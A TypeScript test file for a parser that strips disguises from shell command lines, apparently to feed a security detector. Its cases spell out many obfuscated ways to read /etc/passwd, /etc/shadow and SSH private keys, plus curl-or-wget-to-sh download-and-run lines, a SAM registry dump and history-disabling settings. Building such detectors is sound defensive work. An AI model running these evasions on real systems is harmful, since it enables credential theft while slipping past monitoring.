import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readCommandLine } from './command-line.ts'
import { costOf, hundredKilobytes } from './cost.fixture.ts'

describe('a command line without its disguises', () => {
  it.each([
    [`c''at /e\\tc/pas"s"wd`, 'cat /etc/passwd'],
    [`cat\${IFS}/etc/passwd`, 'cat /etc/passwd'],
    ['cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
    ['cat /tmp/$$$IFS/etc/passwd', 'cat /tmp/$$ /etc/passwd'],
    ['{cat,/etc/passwd}', 'cat /etc/passwd'],
    ['cat /e{t,t}c/passwd', 'cat /etc/passwd /etc/passwd'],
    ['cat /etc/{passwd,shadow}', 'cat /etc/passwd /etc/shadow'],
    ["cat /{etc/pa'ss'wd,root/{.ssh/id_rsa,.bashrc}}", 'cat /etc/passwd /root/.ssh/id_rsa /root/.bashrc'],
    ['cat /etc/pass{w..w}d', 'cat /etc/passwd'],
    ['cp a.{txt,bak}', 'cp a.txt a.bak'],
    ['echo {1..3} {a..c}', 'echo 1 2 3 a b c'],
    ["curl -d '{a,b}' x", 'curl -d {a,b} x'],
    [`echo \\{a,b\\} {} {x} {1..9999} \${x,y} {a,`, `echo {a,b} {} {x} {1..9999} \${x,y} {a,`],
    ["$'\\x63\\x61\\x74' /etc/passwd", 'cat /etc/passwd'],
    ['a=c;b=at;$a$b /etc/passwd', 'cat /etc/passwd'],
    ['c$@at /etc/passwd', 'cat /etc/passwd'],
    [`ca\${x}t /etc/passwd`, 'cat /etc/passwd'],
    ['   cat\t/etc/passwd   # look', 'cat /etc/passwd'],
    ['/usr/bin/cat /etc/passwd', 'cat /etc/passwd'],
    ['/???/c?t /etc/p?ssw?', 'cat /etc/passwd'],
    ['/bin/c[a]t /etc/pass*', 'cat /etc/passwd'],
    [`cat\${IFS}/etc/pa*wd`, 'cat /etc/passwd'],
    ['cat$IFS$9/e"t"c/pa*d', 'cat /etc/passwd'],
    ['cat /e?c/{pa,x}ss*', 'cat /etc/passwd /e?c/xss*'],
    ['nl < /etc/p?ss?d', 'nl < /etc/passwd'],
    ['base64 ~/.ss*/id_r*', 'base64 ~/.ssh/id_rsa'],
    ['echo $(cat /etc/passwd)', 'cat /etc/passwd'],
    ['echo `cat /etc/passwd`', 'cat /etc/passwd'],
    ['echo "x $(cat /etc/passwd) y"', 'cat /etc/passwd'],
    ['true && cat /etc/passwd || false', 'cat /etc/passwd'],
    ['if true; then cat /etc/passwd; fi', 'cat /etc/passwd'],
    ['sudo -u www-data env A=1 cat /etc/passwd', 'cat /etc/passwd'],
    ['timeout -s KILL 5 cat /etc/passwd', 'cat /etc/passwd'],
    ['busybox cat /etc/passwd', 'cat /etc/passwd'],
    ["bash -c 'cat /etc/passwd'", 'cat /etc/passwd'],
    ['su - root -c "cat /etc/passwd"', 'cat /etc/passwd'],
    ['eval cat /etc/passwd', 'cat /etc/passwd'],
    ["echo 'cat /etc/passwd' | sh", 'cat /etc/passwd'],
    ['printf "\\143\\141\\164 /etc/passwd" | sh', 'cat /etc/passwd'],
    ['echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh', 'cat /etc/passwd'],
    ['echo WTJGMElDOWxkR012Y0dGemMzZGs= | base64 -d | base64 -d | sh', 'cat /etc/passwd'],
    ['echo 636174202f6574632f706173737764 | xxd -r -p | sh', 'cat /etc/passwd'],
    ['powershell -enc YwBhAHQAIAAvAGUAdABjAC8AcABhAHMAcwB3AGQA', 'cat /etc/passwd'],
    ["$SHELL -c 'cat /etc/passwd'", 'cat /etc/passwd'],
    ['"$SHELL" -c "cat /etc/passwd"', 'cat /etc/passwd'],
    [`\${SHELL:-/bin/sh} -c 'cat /etc/passwd'`, 'cat /etc/passwd'],
    [`\${x:-cat} \${HOME:0:1}etc\${PATH:0:1}passwd`, 'cat /etc/passwd'],
    ["(echo 'cat /etc/passwd') | sh", 'cat /etc/passwd'],
    ["{ echo 'cat /etc/passwd'; } | bash", 'cat /etc/passwd'],
    ["for i in 1; do echo 'cat /etc/passwd'; done | sh", 'cat /etc/passwd'],
    ["echo 'cat /etc/passwd' | sudo -u root bash", 'cat /etc/passwd'],
    ["echo -n 'cat /etc/passwd' | tee /tmp/x | sh", 'cat /etc/passwd'],
    ["printf '%s\\n' 'cat /etc/passwd' | sh", 'cat /etc/passwd'],
    ["echo 'dwssap/cte/ tac' | rev | sh", 'cat /etc/passwd'],
    ["rev <<< 'dwssap/cte/ tac' | sh", 'cat /etc/passwd'],
    ["echo 'png /rgp/cnffjq' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 'cat /etc/passwd'],
    ["$(rev <<< 'dwssap/cte/ tac')", 'cat /etc/passwd'],
    [`eval "$(rev<<<'dwssap/cte/ tac')"`, 'cat /etc/passwd'],
    [`bash -c "\`echo 'dwssap/cte/ tac' | rev\`"`, 'cat /etc/passwd'],
    [`sh <<< $(printf 'dwssap/cte/ tac' | rev)`, 'cat /etc/passwd'],
    ["sh <(rev <<< 'dwssap/cte/ tac')", 'cat /etc/passwd'],
    ['$(echo cat) /etc/passwd', 'cat /etc/passwd'],
    ['$(echo Y2F0 | base64 -d) /etc/passwd', 'cat /etc/passwd'],
    ['x=$(echo tac | rev); $x /etc/passwd', 'cat /etc/passwd'],
    ['/lib64/ld-linux-x86-64.so.2 --library-path /lib /bin/cat /etc/passwd', 'cat /etc/passwd'],
    ['/lib/ld-musl-x86_64.so.1 /bin/cat /etc/passwd', 'cat /etc/passwd'],
    ["bash <<< 'cat /etc/passwd'", 'cat /etc/passwd'],
    ['sh <<< "cat /etc/passwd"', 'cat /etc/passwd'],
    ['bash <<EOF\ncat /etc/passwd\nEOF', 'cat /etc/passwd'],
    ["sh -s <<'END'\n  cat /etc/passwd\nEND", 'cat /etc/passwd'],
    ['eval "$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)"', 'cat /etc/passwd'],
    ["eval 'c''at' /etc/passwd", 'cat /etc/passwd'],
    ['base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh', 'cat /etc/passwd'],
    [`echo ${gzipSync('cat /etc/passwd').toString('base64')} | base64 -d | gunzip | sh`, 'cat /etc/passwd'],
    [`python3 -c 'import os; os.system("cat /etc/passwd")'`, 'cat /etc/passwd'],
    [`perl -e 'exec "cat /etc/passwd";'`, 'cat /etc/passwd'],
    [`php -r "system('c\\x61t /etc/passwd');"`, 'cat /etc/passwd'],
    [`awk 'BEGIN {system("cat /etc/passwd")}'`, 'cat /etc/passwd'],
    ['cmd.exe /c "cat /etc/passwd"', 'cat /etc/passwd'],
    ['c^md /c cat /etc/passwd', 'cat /etc/passwd'],
    ['powershell -NoP -Command cat /etc/passwd', 'cat /etc/passwd'],
    ['%COMSPEC% /c cat /etc/passwd', 'cat /etc/passwd'],
    ['C:\\Windows\\System32\\reg.exe save HKLM\\SAM c:\\temp\\sam.hiv', 'reg save HKLM\\SAM c:\\temp\\sam.hiv'],
    ['type "c:\\program files\\x\\a.txt"', 'type c:\\program files\\x\\a.txt'],
    ['copy \\\\10.0.0.1\\c$\\a.exe .', 'copy \\\\10.0.0.1\\c$\\a.exe .'],
    ['find / -name x -exec cat /etc/passwd \\;', 'cat /etc/passwd ;'],
    ['cat /etc/passwd 2>/dev/null >&2', 'cat /etc/passwd'],
    ['echo /etc/passwd | xargs cat', 'cat /etc/passwd'],
    ['ls /etc/passwd | xargs -I{} cat {}', 'cat /etc/passwd'],
    ['ls /etc/passwd | xargs -I % sudo cat %', 'cat /etc/passwd'],
    ['find /etc -name passwd | xargs -n1 cat', 'cat /etc/passwd'],
    ['find /etc/passwd -exec cat {} +', 'cat /etc/passwd +'],
    ['find /etc -name passwd -exec cat {} \\;', 'cat /etc/passwd ;'],
    ['unshare -r cat /etc/passwd', 'cat /etc/passwd'],
    ["ssh localhost 'cat /etc/passwd'", 'cat /etc/passwd'],
    ['ssh -p 2222 -q root@127.0.0.1 cat /etc/passwd', 'cat /etc/passwd'],
  ])('%s holds %s', (line, command) => {
    expect(readCommandLine(line).commands).toContain(command)
  })

  it('takes nothing to be run here that ssh runs elsewhere, and no file to be named by a pattern', () => {
    expect(readCommandLine('ssh web02 cat /etc/passwd').commands).toEqual(['ssh web02 cat /etc/passwd'])
    expect(readCommandLine('find /etc -name pass* -exec cat {} +').commands).toContain('cat {} +')
    expect(readCommandLine('find / -type f -exec rm {} +').commands).toContain('rm {} +')
    expect(readCommandLine('cat list | xargs rm').commands).toEqual(['cat list', 'xargs rm', 'rm'])
  })

  it('takes nothing to be run that the loader only looks at', () => {
    expect(readCommandLine('/lib64/ld-linux-x86-64.so.2 --list /tmp/x').argv0).toEqual(['/lib64/ld-linux-x86-64.so.2'])
    expect(readCommandLine('/lib64/ld-linux-x86-64.so.2 /tmp/x').argv0).toEqual(['/lib64/ld-linux-x86-64.so.2', '/tmp/x'])
  })

  it('makes few words of braces, however many they ask for', () => {
    expect(readCommandLine(`echo ${'{a,b}'.repeat(6)}`).commands[0]?.split(' ')).toHaveLength(65)
    for (const braces of ['{a,b}'.repeat(40), `{${'a,'.repeat(900)}}`.repeat(2), '{'.repeat(40) + 'a,b}'.repeat(40)])
      expect(readCommandLine(`echo ${braces}`).commands.join(' ').split(' ').length).toBeLessThanOrEqual(65)
  })

  it('names programs, those of pipes, files written and settings', () => {
    const found = readCommandLine(
      'LD_PRELOAD=/tmp/x.so /usr/bin/curl -s http://x/a | base64 -d > /tmp/.a; export HISTFILE=/dev/null; ls | tee -a /etc/motd',
    )
    expect(found.programs).toEqual(['curl', 'base64', 'export', 'ls', 'tee'])
    expect(found.argv0).toContain('/usr/bin/curl')
    expect(found.pipelines).toEqual(['curl|base64', 'ls|tee'])
    expect(found.writes).toEqual(['/tmp/.a', '/etc/motd'])
    expect(found.settings).toEqual(['LD_PRELOAD=/tmp/x.so', 'HISTFILE=/dev/null'])
  })

  it('joins what a block writes with what reads it, and nothing else', () => {
    expect(readCommandLine('(curl http://x/a || wget -O- http://x/a) | sh').pipelines).toEqual(['curl|sh', 'wget|sh'])
    expect(readCommandLine('{ curl x; } | bash').pipelines).toEqual(['curl|bash'])
    expect(readCommandLine('bash <(curl x)').pipelines).toEqual(['curl|bash'])
    expect(readCommandLine('while true; do wget -qO- x; done | sh').pipelines).toContain('wget|sh')
    expect(readCommandLine('(cd /tmp && ls); date | sh').pipelines).toEqual(['date|sh'])
    expect(readCommandLine('{ id; }; echo a | cat').pipelines).toEqual(['echo|cat'])
    expect(readCommandLine('(cd /tmp; ls) > out').writes).toEqual(['out'])
    expect(readCommandLine("(cd /tmp; ls) | grep 'a b'").commands).toContain('grep a b')
  })

  it('leaves in quotes what is quoted', () => {
    expect(readCommandLine("grep 'a; rm -rf /' log").programs).toEqual(['grep'])
    expect(readCommandLine('echo "a | b"').pipelines).toEqual([])
    expect(readCommandLine("echo '$(id)'").programs).toEqual(['echo'])
  })

  it('leaves wildcards that may mean anything', () => {
    expect(readCommandLine(`cat /etc/* /etc/p* /etc/s*d* '/etc/sh*w' /etc/sh\\*w /usr/bin/p*`).commands).toEqual([
      'cat /etc/* /etc/p* /etc/s*d* /etc/sh*w /etc/sh*w /usr/bin/p*',
    ])
    expect(readCommandLine('ls -d /etc/* /tmp/?? *.txt [a-z] /[').commands).toEqual(['ls -d /etc/* /tmp/?? *.txt [a-z] /['])
  })

  it('is bounded and never throws, whatever it is given', () => {
    const pieces = fc.constantFrom(
      "'",
      '"',
      '\\',
      '$',
      '(',
      ')',
      '`',
      '$(',
      '${',
      '}',
      '{',
      ',',
      '<',
      '>',
      '|',
      '&',
      ';',
      '\n',
      '#',
      ' ',
      'a',
      '=',
      'sh -c ',
      'echo ',
      'sudo ',
      '\\x41',
      'base64 QUJDREVGR0hJ',
      '\u0000',
      '\ud800',
      'é',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(pieces, { maxLength: 200 }).map((each) => each.join('')),
        ),
        (line) => {
          const found = readCommandLine(line)
          expect(found.commands.length).toBeLessThanOrEqual(256 + 8)
          for (const command of found.commands) expect(typeof command).toBe('string')
        },
      ),
    )
    const hostile = ["'", '(', '$(', '`', '\\', 'a=b;$a', '"$(', '<', '&', "$'", "sh -c '", 'sudo ', '{a,', '\\x41', 'eval ']
    for (const piece of hostile) expect(() => readCommandLine(piece.repeat(60_000))).not.toThrow()
  })

  it('takes time that grows with the line and no faster: 100 kB, whatever they are, cost less than to take them apart into characters', () => {
    const pieces = [
      ...["'", '(', '$(', '`', '\\', 'a=b;$a', '"$(', '<', '&', "$'", "sh -c '", 'sudo ', '{a,', '\\x41', 'eval ', '{ ', 'done | sh;'],
      ...['{a,b}', '{a,{b,', '{1..9}', '{a,b} ', '{1..60} ', 'x{', '$(echo a)', 'a=$(echo $a$a);', '/e*c/s*w '],
      ...['} | sh ', '( a ) | sh;', '<( a', '${x:-', '<<< ', 'C:\\a\\', 'cmd /c ', 'echo a | rev | sh;', '^', '/???/c?t '],
      ...[
        'echo QUJDREVGR0hJSktMTU5PUA== | base64 -d | sh;',
        "printf '%s' a | sh;",
        'H4sIAAAA',
        '\\\\a',
        `perl -e 'system("`,
        `awk 'exec "a\\"`,
        '%TEMP%',
        'if ',
        'then ',
      ],
    ]
    const mixed = fc.sample(fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 12 }), { numRuns: 8, seed: 7 })
    for (const unit of [...pieces, ...mixed.map((each) => each.join(''))]) {
      const line = hundredKilobytes(unit)
      expect(
        costOf(line, () => readCommandLine(line)),
        unit,
      ).toBeLessThan(1)
    }
  })

  it('reads again what it wrote, unless it was quoted', () => {
    const word = fc.stringMatching(/^[a-z/][a-z0-9/._-]{0,8}$/u)
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 6 }), (words) => {
        const { line } = readCommandLine(words.join(' '))
        expect(readCommandLine(line).line).toBe(line)
      }),
    )
  })
})
